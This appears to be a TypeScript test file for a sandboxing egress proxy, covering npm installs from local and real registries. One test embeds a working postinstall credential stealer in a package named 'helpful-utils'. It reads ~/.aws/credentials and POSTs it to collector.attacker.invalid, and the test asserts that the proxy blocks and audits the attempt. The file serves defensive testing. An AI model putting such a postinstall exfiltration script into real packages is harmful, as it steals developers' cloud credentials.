/**
 * npm through the egress proxy: installs from a local registry server on the host,
 * the seed incident (a postinstall script that reads ~/.aws/credentials and POSTs it
 * to a host nobody allowed), and a real install from the registry npm on this machine
 * is configured to use, allowed by default because it is that configuration.
 */
import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as crypto from 'node:crypto';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as path from 'node:path';
import { RegistryCache } from '../../runtime/egress/registries';
import { startSession, tempDir } from '../helpers/sandbox';
import { hostHttpServer, HostHttpServer, netRecords } from '../helpers/egress';

interface LocalPackage {
  name: string;
  files: Record<string, string>;
}

/** A minimal npm registry on 127.0.0.1: packuments and tarballs made with `npm pack`. */
async function localRegistry(t: { after: (fn: () => unknown) => void }, pkgs: LocalPackage[]): Promise<HostHttpServer> {
  const dir = tempDir('airlock-registry-');
  t.after(() => fs.rmSync(dir, { recursive: true, force: true }));
  const tarballs = new Map<string, { tgz: Buffer; manifest: Record<string, unknown> }>();
  for (const p of pkgs) {
    const src = path.join(dir, p.name);
    fs.mkdirSync(src);
    for (const [rel, content] of Object.entries(p.files)) fs.writeFileSync(path.join(src, rel), content);
    const out = execFileSync('npm', ['pack', '--silent', '--pack-destination', dir], { cwd: src, encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim().split('\n').pop()!;
    tarballs.set(p.name, { tgz: fs.readFileSync(path.join(dir, out)), manifest: JSON.parse(p.files['package.json']) });
  }
  let port = 0;
  const srv = await hostHttpServer((req, res) => {
    const url = decodeURIComponent(req.url ?? '/');
    const tar = /^\/([^/]+)\/-\/[^/]+\.tgz$/.exec(url);
    if (tar && tarballs.has(tar[1])) {
      res.setHeader('content-type', 'application/octet-stream');
      res.end(tarballs.get(tar[1])!.tgz);
      return;
    }
    const name = url.slice(1);
    const p = tarballs.get(name);
    if (!p) {
      res.statusCode = 404;
      res.end('{}');
      return;
    }
    const version = String(p.manifest.version);
    const integrity = 'sha512-' + crypto.createHash('sha512').update(p.tgz).digest('base64');
    const shasum = crypto.createHash('sha1').update(p.tgz).digest('hex');
    res.setHeader('content-type', 'application/json');
    res.end(JSON.stringify({
      name, 'dist-tags': { latest: version },
      versions: { [version]: { ...p.manifest, hasInstallScript: Boolean((p.manifest.scripts as Record<string, string> | undefined)?.postinstall), dist: { tarball: `http://127.0.0.1:${port}/${name}/-/${name}-${version}.tgz`, integrity, shasum } } },
    }));
  });
  port = srv.port;
  t.after(() => srv.close());
  return srv;
}

const NPM = ['npm', 'install', '--no-audit', '--no-fund', '--no-update-notifier', '--foreground-scripts'];

test('npm install from a local registry server works through the proxy when the registry host is allowed', async (t) => {
  const reg = await localRegistry(t, [{ name: 'tiny-left-pad', files: { 'package.json': JSON.stringify({ name: 'tiny-left-pad', version: '1.0.0', main: 'index.js' }), 'index.js': "module.exports = (s, n) => String(s).padStart(n, ' ');\n" } }]);
  const s = await startSession({ egress: {}, policy: { network: { allow: [`127.0.0.1:${reg.port}`] } } });
  t.after(() => s.close());
  const r = await s.run([...NPM, '--registry', `http://127.0.0.1:${reg.port}/`, 'tiny-left-pad']);
  assert.equal(r.code, 0, r.stderr);
  const use = await s.run(['node', '-e', "console.log(JSON.stringify(require('tiny-left-pad')('x', 3)))"]);
  assert.equal(use.stdout.trim(), '"  x"');
  assert.ok(reg.requests.some((q) => q.url.endsWith('.tgz')), 'the tarball came from the local registry');
});

test('the seed incident: a postinstall that reads ~/.aws/credentials and POSTs it out finds no file and is refused, with session and host audited', async (t) => {
  const exfil = await hostHttpServer();
  t.after(() => exfil.close());
  const steal = `
    const fs = require('fs'), os = require('os'), http = require('http');
    const tried = [os.homedir() + '/.aws/credentials', '/root/.aws/credentials', ...(() => { try { return fs.readdirSync('/home').map((h) => '/home/' + h + '/.aws/credentials'); } catch { return []; } })()];
    let loot = '';
    for (const f of tried) { try { loot += fs.readFileSync(f, 'utf8'); console.log('STOLE ' + f); } catch (e) { console.log('MISSING ' + f + ' ' + e.code); } }
    const proxy = new URL(process.env.HTTP_PROXY);
    const post = (url) => new Promise((done) => {
      const u = new URL(url);
      const req = http.request({ host: proxy.hostname, port: proxy.port, method: 'POST', path: url, headers: { host: u.host } }, (res) => { console.log('POST ' + u.host + ' -> ' + res.statusCode); res.resume(); res.on('end', done); });
      req.on('error', (e) => { console.log('POST ' + u.host + ' failed ' + e.message); done(); });
      req.end(loot || 'nothing');
    });
    post('http://collector.attacker.invalid/upload').then(() => post('http://127.0.0.1:${exfil.port}/upload'));`;
  const reg = await localRegistry(t, [{
    name: 'helpful-utils',
    files: { 'package.json': JSON.stringify({ name: 'helpful-utils', version: '1.0.0', scripts: { postinstall: 'node steal.js' } }), 'steal.js': steal },
  }]);
  const s = await startSession({ egress: {}, policy: { network: { allow: [`127.0.0.1:${reg.port}`] } } });
  t.after(() => s.close());
  const r = await s.run([...NPM, '--registry', `http://127.0.0.1:${reg.port}/`, 'helpful-utils']);
  const out = r.stdout + r.stderr;
  assert.match(out, /MISSING \/home\/airlock\/\.aws\/credentials ENOENT/, out);
  assert.doesNotMatch(out, /STOLE/);
  assert.match(out, /POST collector\.attacker\.invalid -> 403/);
  assert.match(out, new RegExp(`POST 127\\.0\\.0\\.1:${exfil.port} -> 403`));
  assert.equal(exfil.connections, 0, 'the collector received nothing');
  const denied = netRecords(s.auditFile).filter((x) => x.decision === 'deny');
  assert.deepEqual(denied.map((x) => [x.session, x.host, x.method]), [
    [s.session.id, 'collector.attacker.invalid', 'POST'],
    [s.session.id, '127.0.0.1', 'POST'],
  ]);
});

/** Whether the registry npm is configured with answers from this host at all. */
async function registryReachable(url: string): Promise<boolean> {
  return new Promise((resolve) => {
    const mod = url.startsWith('https:') ? require('node:https') as typeof http : http;
    const req = mod.get(url + 'is-number', { timeout: 10_000 }, (res) => {
      res.resume();
      resolve((res.statusCode ?? 500) < 500);
    });
    req.on('error', () => resolve(false));
    req.on('timeout', () => {
      req.destroy();
      resolve(false);
    });
  });
}

test('a real npm install under the default policy succeeds: the registry npm is configured with is allowed by default', async (t) => {
  const registry = execFileSync('npm', ['config', 'get', 'registry'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim().replace(/\/?$/, '/');
  if (!(await registryReachable(registry))) {
    t.skip('registry unreachable: the registry npm is configured with does not answer from this host');
    return;
  }
  const s = await startSession({ egress: { registries: new RegistryCache() }, policy: { network: { registries: true } } });
  t.after(() => s.close());
  const r = await s.run(['sh', '-c', `${NPM.join(' ')} is-number@7.0.0 && node -e "console.log(require('is-number')(5))"`]);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /true\n$/);
  const allowed = netRecords(s.auditFile).filter((x) => x.decision === 'allow');
  assert.ok(allowed.length > 0);
  assert.ok(allowed.every((x) => x.rule === new URL(registry).host), 'every connection was allowed by the registry rule');
  const reg = netRecords(s.auditFile, 'net.registries');
  assert.equal(reg.length, 1);
  assert.ok((reg[0].rules as string[]).includes(new URL(registry).host));
});
